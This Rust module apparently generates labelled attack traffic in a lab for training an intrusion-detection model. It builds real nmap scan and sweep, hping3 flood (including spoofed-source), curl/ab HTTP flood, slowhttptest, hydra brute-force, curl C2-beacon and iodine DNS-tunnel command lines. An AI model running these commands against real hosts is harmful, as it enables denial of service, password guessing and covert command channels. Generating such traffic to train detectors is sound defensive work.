//! The kinds of attack a session may hold, each a real tool with a line of its own every time.

use super::rng::Rng;
use std::fmt::Write as _;
use std::net::Ipv4Addr;

/// What a line may speak of.
#[derive(Clone, Copy, Debug)]
pub(super) struct Scope {
    pub(super) target: Ipv4Addr,
    pub(super) attacker: Ipv4Addr,
    /// How long the tool is left running, s.
    pub(super) seconds: u64,
}

/// Where a tool runs.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Side {
    /// At the attacker.
    Attacker,
    /// At the protected host, which is then the infected one.
    Protected,
}

/// What to run. `{passwords}` stands for a list of passwords, `{www}` for a folder to serve.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) struct Steps {
    /// A server at the attacker, started before.
    pub(super) serve: Option<String>,
    pub(super) side: Side,
    /// Program and arguments.
    pub(super) line: Vec<String>,
}

/// A kind of attack.
#[derive(Clone, Copy, Debug)]
pub(super) struct Kind {
    pub(super) name: &'static str,
    /// As the labels of `sentinel model train` have it.
    pub(super) family: &'static str,
    /// The tool, and what else must be there.
    pub(super) programs: &'static [&'static str],
    /// How much longer than others it needs.
    pub(super) weight: u64,
    /// With fewer packets it did not happen.
    pub(super) least: u64,
    /// Its sources are forged.
    pub(super) forged: bool,
    pub(super) steps: fn(&mut Rng, Scope) -> Steps,
}

/// The domain of the tunnel (RFC 6761 keeps `test` free for such).
const TUNNEL: &str = "t.lab.test";

const fn kind(
    name: &'static str,
    family: &'static str,
    programs: &'static [&'static str],
    weight: u64,
    steps: fn(&mut Rng, Scope) -> Steps,
) -> Kind {
    Kind {
        name,
        family,
        programs,
        weight,
        least: 20,
        forged: false,
        steps,
    }
}

/// All of them.
pub(super) const KINDS: &[Kind] = &[
    kind("syn scan", "scan", &["nmap"], 1, |rng, to| {
        scan("-sS", 200..=800, rng, to)
    }),
    kind("connect scan", "scan", &["nmap"], 1, |rng, to| {
        scan("-sT", 200..=800, rng, to)
    }),
    kind("udp scan", "scan", &["nmap"], 1, |rng, to| {
        scan("-sU", 50..=300, rng, to)
    }),
    kind("fin, null or xmas scan", "scan", &["nmap"], 1, |rng, to| {
        let how = rng.one(&["-sF", "-sN", "-sX"]);
        scan(how, 200..=800, rng, to)
    }),
    kind("slow scan", "scan_slow", &["nmap"], 2, |rng, to| {
        let (delay, from) = (rng.within(200..=500), rng.within(1..=5000));
        away(&format!(
            "nmap -n -Pn -sS --max-retries 0 --scan-delay {delay}ms -p{from}-{} {}",
            from + 400,
            to.target
        ))
    }),
    kind("service scan", "scan_svc", &["nmap"], 2, |_, to| {
        away(&format!(
            "nmap -n -Pn -sV -p21,22,25,53,80,110,143,443,3306,5201,8080 {}",
            to.target
        ))
    }),
    Kind {
        // Of a sweep a host sees what is sent to its own addresses.
        least: 4,
        ..kind("sweep", "sweep", &["nmap"], 1, |rng, _| {
            let [first, last] = super::SWEPT;
            away(&format!(
                "nmap -n -sn --disable-arp-ping -PE -PS22,80,443 --max-rate {} 192.0.2.{first}-{last}",
                rng.within(10..=60)
            ))
        })
    },
    kind("syn flood", "flood_syn", &["hping3"], 1, |rng, to| {
        flood("-S -p 80", 500, rng, to)
    }),
    kind("ack flood", "flood_ack", &["hping3"], 1, |rng, to| {
        flood("-A -p 80", 500, rng, to)
    }),
    kind("udp flood", "flood_udp", &["hping3"], 1, |rng, to| {
        let length = rng.within(16..=1200);
        flood(&format!("--udp -p 9999 -d {length}"), 500, rng, to)
    }),
    kind("icmp flood", "flood_icmp", &["hping3"], 1, |rng, to| {
        flood("--icmp", 500, rng, to)
    }),
    Kind {
        forged: true,
        ..kind(
            "syn flood, forged sources",
            "flood_spoofed",
            &["hping3"],
            1,
            |rng, to| flood("-S -p 80 --rand-source", 700, rng, to),
        )
    },
    kind("http flood, curl", "flood_http", &["curl"], 1, |rng, to| {
        away(&format!(
            "curl -s -I -o /dev/null -Z --parallel-max {} -H Connection:close http://{}/page[1-5000]",
            rng.within(10..=60),
            to.target
        ))
    }),
    kind("http flood, ab", "flood_http", &["ab"], 1, |rng, to| {
        away(&format!(
            "ab -q -r -n 20000 -c {} -t {} http://{}/page",
            rng.within(10..=60),
            to.seconds,
            to.target
        ))
    }),
    kind("slow headers or body", "slow_dos", &["slowhttptest"], 2, |rng, to| {
        let how = rng.one(&["-H", "-B"]);
        away(&format!(
            "slowhttptest {how} -c {} -i {} -r {} -l {} -u http://{}/file",
            rng.within(40..=150),
            rng.within(2..=6),
            rng.within(10..=50),
            to.seconds,
            to.target
        ))
    }),
    kind("ssh brute force", "bf_ssh", &["hydra"], 1, |rng, to| {
        let tasks = rng.within(4..=16);
        away(&format!(
            "hydra -I -l root -P {{passwords}} -t {tasks} ssh://{}",
            to.target
        ))
    }),
    kind("http brute force", "bf_http", &["hydra"], 1, |rng, to| {
        let tasks = rng.within(2..=12);
        away(&format!(
            "hydra -I -l admin -P {{passwords}} -t {tasks} http-get://{}/admin/",
            to.target
        ))
    }),
    kind("beacon", "c2", &["curl", "busybox"], 2, beacon),
    Kind {
        // It has begun to carry something.
        least: 60,
        ..kind("dns tunnel", "dns_tunnel", &["iodine", "iodined"], 2, |rng, to| {
            let (record, fragment) = (rng.one(&["NULL", "TXT"]), rng.within(400..=900));
            let (length, pause) = (rng.within(100..=900), rng.within(3..=20));
            // Inside the tunnel: addresses kept for benchmarks (RFC 2544), never seen at the interface itself.
            let script = format!(
                "iodine -f -r -P lab -T {record} -m {fragment} {} {TUNNEL} & sleep 2; \
                 ping -q -i 0.{pause:02} -s {length} 198.18.0.1",
                to.attacker
            );
            Steps {
                serve: Some(format!(
                    "iodined -f -c -P lab -l {} 198.18.0.1/24 {TUNNEL}",
                    to.attacker
                )),
                side: Side::Protected,
                line: shell(script),
            }
        })
    },
];

/// A line that runs at the attacker.
fn away(line: &str) -> Steps {
    Steps {
        serve: None,
        side: Side::Attacker,
        line: line.split_whitespace().map(str::to_owned).collect(),
    }
}

fn shell(script: String) -> Vec<String> {
    vec!["sh".into(), "-c".into(), script]
}

fn scan(how: &str, rate: std::ops::RangeInclusive<u64>, rng: &mut Rng, to: Scope) -> Steps {
    let (rate, from) = (rng.within(rate), rng.within(1..=2000));
    away(&format!(
        "nmap -n -Pn {how} --max-rate {rate} -p{from}-{} {}",
        from + rng.within(1000..=20000),
        to.target
    ))
}

/// Packets at 500 to 2,000 a second, as many as the time has room for.
fn flood(what: &str, fastest_us: u64, rng: &mut Rng, to: Scope) -> Steps {
    let every = rng.within(fastest_us..=2000);
    let count = to.seconds * 1_000_000 / every;
    away(&format!("hping3 -q {what} -i u{every} -c {count} {}", to.target))
}

/// The infected host asks its master every second or so, with jitter (MITRE ATT&CK T1071.001).
fn beacon(rng: &mut Rng, to: Scope) -> Steps {
    let (every, jitter) = (rng.within(600..=2500), rng.within(2..=30));
    let port = rng.one(&[80, 443, 8080, 8443]);
    let mut script = String::new();
    for _ in 0..=to.seconds * 1000 / every {
        let spread = every * jitter / 100;
        let pause = rng.within(every - spread..=every + spread);
        let _ = write!(
            script,
            "curl -s -m 2 -o /dev/null http://{}:{port}/task; sleep {}.{:03}; ",
            to.attacker,
            pause / 1000,
            pause % 1000
        );
    }
    Steps {
        serve: Some(format!("busybox httpd -f -p {}:{port} -h {{www}}", to.attacker)),
        side: Side::Protected,
        line: shell(script),
    }
}
